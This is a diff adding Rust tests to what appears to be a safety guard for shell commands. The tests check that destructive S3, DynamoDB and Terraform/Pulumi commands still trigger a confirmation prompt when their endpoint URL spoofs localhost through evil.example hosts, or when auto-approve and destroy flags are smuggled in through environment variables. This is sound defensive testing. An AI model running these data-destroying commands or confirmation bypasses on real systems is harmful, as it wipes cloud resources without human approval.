@@ -379,3 +379,46 @@ fn the_pack_can_be_switched_off() {
     all_with(r#"{"packs": {"cloud": "off"}}"#, "none", &["terraform destroy", "aws s3 rb s3://b"]);
     all_with(r#"{"deny": ["stack-destroy"]}"#, "deny stack-destroy", &["terraform destroy"]);
 }
+
+#[test]
+fn only_an_address_of_this_machine_is_one() {
+    all("none", &["aws s3 rm s3://b --recursive --endpoint-url http://localhost:4566"]);
+    all(
+        "ask bucket-delete",
+        &[
+            "aws s3 rm s3://b --recursive --endpoint-url http://localhost.evil.example",
+            "aws s3 rb s3://b --endpoint-url=http://localhost@evil.example",
+            "aws s3 rm s3://b/x --endpoint-url http://localhost:80@evil.example",
+            "aws s3 sync . s3://b --delete --endpoint-url http://127.0.0.1.evil.example",
+            "aws s3 rm s3://b/x --endpoint-url http://localhost --endpoint-url https://s3.example",
+        ],
+    );
+    all(
+        "ask aws-delete",
+        &["aws dynamodb delete-table --table-name t --endpoint-url http://localhost.evil.example:8000"],
+    );
+}
+
+#[test]
+fn options_that_come_out_of_a_variable_count() {
+    all(
+        "ask stack-apply",
+        &[
+            "TF_CLI_ARGS_apply=-auto-approve terraform apply",
+            "TF_CLI_ARGS='-auto-approve -no-color' tofu apply",
+            "export TF_CLI_ARGS_apply='-input=false -auto-approve'; terraform apply",
+            "env TF_CLI_ARGS_apply=-auto-approve sudo terraform -chdir=infra apply",
+            "PULUMI_SKIP_CONFIRMATIONS=true pulumi up",
+        ],
+    );
+    all("ask stack-destroy", &["TF_CLI_ARGS_apply=-destroy terraform apply"]);
+    all("ask stack-state", &["TF_CLI_ARGS_workspace_delete=-force terraform workspace delete old"]);
+    all(
+        "none",
+        &[
+            "TF_CLI_ARGS_plan=-auto-approve terraform apply",
+            "TF_CLI_ARGS_apply=-auto-approve terraform plan",
+            "PULUMI_SKIP_CONFIRMATIONS=false pulumi up",
+        ],
+    );
+}
